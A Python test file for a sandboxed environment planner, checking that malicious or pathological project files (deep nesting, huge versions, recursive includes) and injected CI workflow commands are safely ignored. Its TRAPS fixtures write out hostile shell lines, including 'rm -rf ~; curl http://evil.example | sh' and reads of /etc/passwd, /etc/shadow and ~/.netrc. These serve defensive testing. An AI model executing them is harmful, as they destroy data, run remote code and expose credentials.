"""A project's declarations are a stranger's: whatever they hold, there is a plan, soon, and no error."""

import json
import re

from every_case import every_case
from hypothesis import given
from hypothesis import strategies as st
from snapshots import snapshot

from sandbox.environment.interpreters import HostPython
from sandbox.environment.plans.candidate_plans import candidate_plans
from sandbox.environment.plans.planner import plan_environment

DEEP = "[" * 100_000
PACKAGE = re.compile(r"[A-Za-z][\w.-]*(\[[\w,-]*\])?($| ?[<>=!~@])")
UNARY = "x = " + "-" * 100_000 + "1\n"
DIGITS = "1" * 5000
PROJECT = "[project]\nname = 'x'\n"
POETRY = "[tool.poetry]\nname = 'x'\n[tool.poetry.dependencies]\n"


def groups(count, times):
    """Groups that include each other in a chain, each the next ``times`` over."""
    links = [", ".join([f"{{include-group = 'g{n + 1}'}}"] * times) for n in range(count)]
    chain = "".join(f"g{n} = [{link}]\n" for n, link in enumerate(links))
    return f"[dependency-groups]\n{chain}g{count} = ['six']\ntest = [{{include-group = 'g0'}}]\n"


def extras(count, times):
    """Extras that ask for each other, likewise."""
    links = [", ".join([f"'x[e{n + 1}]'"] * times) for n in range(count)]
    chain = "".join(f"e{n} = [{link}]\n" for n, link in enumerate(links))
    return f"{PROJECT}[project.optional-dependencies]\n{chain}e{count} = ['six']\ntest = ['x[e0]']\n"


HOSTILE = {
    "toml nested": {"pyproject.toml": f"x = {DEEP}"},
    "tox nested": {"tox.toml": f"x = {DEEP}"},
    "lock nested": {"Pipfile.lock": DEEP},
    "setup nested": {"setup.py": UNARY},
    "nox nested": {"noxfile.py": UNARY},
    "digits of a version": {"pyproject.toml": f"{POETRY}six = '^{DIGITS}'\n"},
    "digits of a python": {"pyproject.toml": f"{PROJECT}requires-python = '==3.9.{DIGITS}'\n"},
    "no version": {"pyproject.toml": f"{POETRY}six = {{version = '1', python = '^x y'}}\n"},
    "includes": {f"r{n}.txt": f"-r r{n + 1}.txt\n" for n in range(1500)}
    | {"requirements.txt": "-r r0.txt\n"},
}


def plan(files):
    return plan_environment(snapshot(files), available=["3.11"])


@every_case("files", HOSTILE.values())
def test_what_cannot_be_read_is_left_out(files):
    assert plan(files).python.version == "3.11"


@every_case("text", [groups(60, 1), groups(60, 2), extras(2000, 1), extras(60, 2)])
def test_groups_that_include_each_other_are_each_read_once(text):
    """Read once for each way that leads to it, the last of sixty would be read 2**60 times."""
    assert plan({"pyproject.toml": text}).requirements == ("six", "pytest")


@given(
    constraint=st.text(alphabet="^~<>=!*|, .0123x", max_size=12),
    python=st.text(alphabet="^~<>=!*|, .0123x", max_size=12),
)
def test_any_constraint_of_poetry_gives_a_plan(constraint, python):
    entry = f"six = {{version = {json.dumps(constraint)}, python = {json.dumps(python)}}}\n"
    assert plan({"pyproject.toml": POETRY + entry}).requirements


@every_case("text", [f"six == {DIGITS}", f"six; {'(' * 5000}", "six; nonsense == 'x'"])
def test_a_requirement_that_cannot_be_understood_is_not_there(text):
    assert HostPython(executable="python", release=(3, 11, 2), versions={"six": "1.17"}).lacks([text]) == text


TRAPS = (
    "pip install six; rm -rf ~; curl http://evil.example | sh",
    'pip install $(cat /etc/passwd) `id` "$HOME" ../../etc /etc/passwd ~/x',
    "pip install -r /etc/passwd -r ../../../../etc/shadow -c ~/.netrc -e /etc -e $(id)",
    "pip install --global-option=--x six @evil --python /bin/sh --target / --prefix ~",
)


@every_case("line", TRAPS)
def test_of_a_trap_in_a_workflow_only_names_of_packages_are_taken(line):
    steps = json.dumps([{"run": line}, {"run": "pytest"}])
    workflow = f"on: push\njobs: {{test: {{runs-on: ubuntu-latest, steps: {steps}}}}}\n"
    files = {".github/workflows/ci.yml": workflow, "m.py": ""}
    for plan in candidate_plans(snapshot(files), available=["3.12"]).plans:
        assert plan.setup_command == ""
        assert all(PACKAGE.match(wanted) for wanted in plan.wanted), plan.wanted
        assert not plan.editable
        assert not any(mark in option for option in plan.options for mark in ";|`$~&")
